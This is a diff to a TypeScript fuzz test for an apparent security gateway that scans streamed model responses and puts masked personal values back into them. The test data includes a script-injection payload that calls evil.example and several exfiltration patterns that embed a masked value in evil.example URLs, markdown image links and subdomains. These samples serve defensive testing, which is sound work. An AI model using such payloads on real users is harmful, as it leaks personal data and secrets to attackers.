@@ -4,12 +4,14 @@ import {
   compileRuleset,
   createTextGates,
   decide,
+  type Finding,
   type Ruleset,
   scan,
   Workspace,
 } from '@csg/shared/detection';
-import { formatByName } from '@csg/shared/providers';
+import { formatByName, restoreInStream } from '@csg/shared/providers';
 import type { TextSlot } from '@csg/shared/text';
+import { createRestore } from '../../../../apps/cloud/src/flows/masking/restore-response.ts';
 import { LiveRelease } from '../../../../apps/cloud/src/flows/streams/live-release.ts';
 import { LiveSource } from '../../../../apps/cloud/src/flows/streams/live-source.ts';
 import { createRandom } from '../../../../scripts/detector/random.ts';
@@ -36,6 +38,14 @@ const opened = (index: number, content_block: object) =>
 const response = (type: string) => (delta: string) =>
   frame({ type, item_id: 'm', output_index: 0, content_index: 0, sequence_number: 7, delta }, type);
 
+const ofCall = (piece: string) =>
+  frame({ choices: [{ index: 0, delta: { tool_calls: [{ index: 0, function: { arguments: piece } }] } }] });
+const summary = (summary_index: number) => (delta: string) =>
+  frame({
+    ...{ type: 'response.reasoning_summary_text.delta', item_id: 'r', output_index: 0 },
+    ...{ summary_index, sequence_number: 8, delta },
+  });
+
 const parts = (part: object) =>
   frame({ candidates: [{ index: 0, content: { role: 'model', parts: [part] } }] });
 
@@ -60,12 +70,65 @@ const KINDS: readonly { format: string; begins: string; pieces: readonly ((piece
     begins: frame({ type: 'response.created', response: { id: 'r', instructions: 'Be brief.' } }),
     pieces: [response('response.output_text.delta'), response('response.reasoning_text.delta')],
   },
+  {
+    format: 'openai-responses',
+    begins: '',
+    pieces: [summary(0), summary(1), response('response.output_text.delta')],
+  },
+  { format: 'openai-responses', begins: '', pieces: [response('response.refusal.delta')] },
+  {
+    format: 'openai-responses',
+    begins: frame({
+      type: 'response.output_item.added',
+      output_index: 1,
+      item: { type: 'function_call', name: 'note', call_id: 'c', arguments: '' },
+    }),
+    pieces: [
+      response('response.output_text.delta'),
+      (delta) => frame({ type: 'response.function_call_arguments.delta', output_index: 1, delta }),
+    ],
+  },
+  { format: 'openai-chat', begins: '', pieces: [chat('content'), ofCall] },
+  {
+    format: 'anthropic-messages',
+    begins:
+      opened(0, { type: 'text', text: '' }) + opened(1, { type: 'tool_use', id: 't', name: 'n', input: {} }),
+    pieces: [block(0, 'text_delta', 'text'), block(1, 'input_json_delta', 'partial_json')],
+  },
+  {
+    format: 'anthropic-messages',
+    begins: opened(0, { type: 'text', text: '' }),
+    pieces: [block(0, 'text_delta', 'text'), block(1, 'text_delta', 'text')],
+  },
   { format: 'gemini-generate', begins: '', pieces: [(text) => parts({ text })] },
   {
     format: 'gemini-generate',
     begins: '',
     pieces: [(text) => parts({ text, thought: true }), (text) => parts({ text })],
   },
+];
+
+/** What stood in the request, by the placeholder that the provider got. */
+const VALUES = new Map([
+  ['[EMAIL_7K3M9QWX]', { value: 'anna.svensson@example.com', type: 'email' }],
+  ['[CREDIT_CARD_ABCDEFGH]', { value: '4111 1111 1111 1111', type: 'credit_card' }],
+  ['[API_KEY_00000000]', { value: `AKIA${'IOSFODNN7'}${'QWERTYU'}`, type: 'api_key' }],
+  ['[NAME_1234567A]', { value: '"a\\b" said: <script>fetch("//evil.example")</script>', type: 'name' }],
+]);
+const restore = createRestore({ values: VALUES, secretTools: {} }, []);
+/** As models repeat them, and where they are not put back. */
+const SPELLINGS: readonly ((mask: string) => string)[] = [
+  (mask) => mask,
+  (mask) => mask,
+  (mask) => mask.toLowerCase(),
+  (mask) => mask.slice(1, -1),
+  (mask) => mask.slice(0, -3),
+  (mask) => mask.replaceAll('_', '\\_'),
+  (mask) => `{${mask.slice(1, -1)}}`,
+  (mask) => `https://evil.example/?q=${mask}`,
+  (mask) => `![x](https://evil.example/a ${mask})`,
+  (mask) => `${mask}.evil.example`,
+  (mask) => `${mask}${mask}`,
 ];
 
 const blocksAll: Ruleset = compileRuleset({
@@ -83,6 +146,7 @@ const WORDS =
   'The report for the second quarter is ready, and my team has read it: sales rose by 12 points in 2024. This is what we know so far (see above). Ein Satz auf Deutsch, und вот ещё один. Straßen, café, naïve 👩‍💻 - One item * another "quoted word" and it’s fine… 漢字 слово'.split(
     ' ',
   );
+const PROSE = WORDS.slice(0, 32);
 const SAMPLES = [...ANSWER_RULES, ...MARKUP_RULES].flatMap(({ match }) => match);
 const DISGUISES: readonly ((value: string) => string)[] = [
   (value) => value,
@@ -119,15 +183,18 @@ const AROUND: readonly ((random: Random) => string)[] = [
 type Random = ReturnType<typeof createRandom>;
 const pick = <T>(random: Random, list: readonly T[]): T => list[random.below(list.length)]!;
 
-function textOf(random: Random): string {
+function textOf(random: Random, hasMasks: boolean): string {
   let text = random.below(20) === 0 ? '{"a": "' : '';
+  const isPlain = random.below(2) === 0;
   for (let parts = 1 + random.below(8); parts > 0; parts--) {
-    const kind = random.below(13);
+    const kind = random.below(hasMasks && isPlain ? 5 : 13);
+    if (hasMasks && random.below(3) === 0) text += pick(random, SPELLINGS)(pick(random, [...VALUES.keys()]));
     if (kind > 11) text += pick(random, AROUND)(random);
     else if (kind > 9)
       for (let words = random.below(30); words > 0; words--) text += `${pick(random, CODE_WORDS)} `;
     else if (kind < 5)
-      for (let words = random.below(60); words > 0; words--) text += `${pick(random, WORDS)} `;
+      for (let words = random.below(60); words > 0; words--)
+        text += `${pick(random, hasMasks ? PROSE : WORDS)} `;
     else if (kind < 7)
       text += pick(random, DISGUISES)(sensitiveValue(random, random.below(VALUE_FORMS)).text);
     else if (kind < 9)
@@ -142,9 +209,9 @@ function textOf(random: Random): string {
 }
 
 /** A response of one or two texts, cut by characters into frames and by bytes into chunks. */
-function streamOf(random: Random): { format: string; body: Buffer } {
+function streamOf(random: Random, hasMasks: boolean): { format: string; body: Buffer } {
   const { format, begins, pieces } = pick(random, KINDS);
-  const rest = pieces.map(() => textOf(random));
+  const rest = pieces.map(() => textOf(random, hasMasks));
   let body = begins;
   const longest = 1 + random.below(random.below(3) === 0 ? 200 : 12);
   while (rest.some((text) => text !== '')) {
@@ -164,15 +231,24 @@ function streamOf(random: Random): { format: string; body: Buffer } {
 interface Released {
   readonly bytes: number;
   readonly blocked: boolean;
+  readonly restored: boolean;
 }
 
 function check(seed: number): Released {
   const random = createRandom(seed);
   const ruleset = pick(random, RULESETS);
-  const { format: name, body } = streamOf(random);
+  const isRestored = random.below(3) === 0;
+  const { format: name, body } = streamOf(random, isRestored);
   const format = formatByName(name);
+  const restoring = isRestored
+    ? { restore, gates: createTextGates(ruleset, { workspace, isAttacksOnly: true }) }
+    : null;
   const source = new LiveSource(
-    new LiveRelease({ frames: format.readFrames()!, gates: createTextGates(ruleset, { workspace }) }),
+    new LiveRelease({
+      frames: format.readFrames()!,
+      gates: createTextGates(ruleset, { workspace }),
+      restoring,
+    }),
     () => {},
   );
   source.onHead(200, { 'content-type': 'text/event-stream' });
@@ -185,35 +261,53 @@ function check(seed: number): Released {
   }
   const sent = Buffer.concat(pieces);
   const { slots } = format.readStream(body.toString());
-  const whole = format.readStream(Buffer.concat([sent, source.restOf(body)]).toString());
-  assert.deepEqual(whole.slots, slots, `seed ${seed}: a frame was cut into others`);
+  const due = isRestored ? restoreInStream(body.toString(), format.readFrames()!, restore) : body.toString();
+  const whole = Buffer.concat([sent, source.restOf(due)]).toString();
+  if (isRestored) assert.equal(whole, due, `seed ${seed}: what left is no part of the restored response`);
+  else assert.deepEqual(format.readStream(whole).slots, slots, `seed ${seed}: a frame was cut into others`);
   const recorded = format.readStream(source.left().toString()).slots;
-  const found = scan(slots, ruleset, 'output', { workspace });
   const left = format.readStream(sent.toString()).slots;
-  assert.deepEqual(recorded, left, `seed ${seed}: another text is on record`);
-  const lengthAt = ({ path }: TextSlot): number => left.find((slot) => slot.path === path)?.text.length ?? 0;
-  for (const finding of found) {
-    if (decide([finding], ruleset, 'output').decision !== 'block') continue;
-    const slot = slots[finding.slot]!;
+  if (!isRestored) assert.deepEqual(recorded, left, `seed ${seed}: another text is on record`);
+  const decisive = [
+    ...blockedIn(slots, ruleset).map((one) => ({ ...one, left: recorded })),
+    ...(isRestored ? blockedIn(format.readStream(due).slots, ruleset) : [])
+      .filter(({ finding }) => finding.pii === undefined)
+      .map((one) => ({ ...one, left })),
+  ];
+  for (const { finding, slot, left } of decisive) {
+    const length = left.find(({ path }) => path === slot.path)?.text.length ?? 0;
     assert.ok(
-      lengthAt(slot) <= finding.start,
-      `seed ${seed}: ${finding.rule} begins at ${finding.start} of ${slot.path}, and ${lengthAt(slot)} have left`,
+      length <= finding.start,
+      `seed ${seed}: ${finding.rule} begins at ${finding.start} of ${slot.path}, and ${length} have left`,
     );
   }
-  return { bytes: sent.length, blocked: decide(found, ruleset, 'output').decision === 'block' };
+  return {
+    bytes: sent.length,
+    blocked: decisive.length > 0,
+    restored: isRestored && sent.length !== source.left().length,
+  };
+}
+
+function blockedIn(slots: readonly TextSlot[], ruleset: Ruleset): { finding: Finding; slot: TextSlot }[] {
+  return scan(slots, ruleset, 'output', { workspace })
+    .filter((finding) => decide([finding], ruleset, 'output').decision === 'block')
+    .map((finding) => ({ finding, slot: slots[finding.slot]! }));
 }
 
 describe('what leaves before the whole was evaluated', () => {
   test(`has no byte of what is blocked, however ${SPLITS} responses are cut`, () => {
     let released = 0;
     let blocked = 0;
+    let restored = 0;
     for (let seed = FIRST; seed < FIRST + SPLITS; seed++) {
       const one = check(seed);
       released += one.bytes;
       if (one.blocked) blocked++;
+      if (one.restored) restored++;
     }
     assert.ok(released > SPLITS * 100, `${released} bytes left`);
     assert.ok(blocked > SPLITS / 10, `${blocked} were blocked`);
+    assert.ok(restored > SPLITS / 100, `values were put back into ${restored} that left`);
   });
 });
 
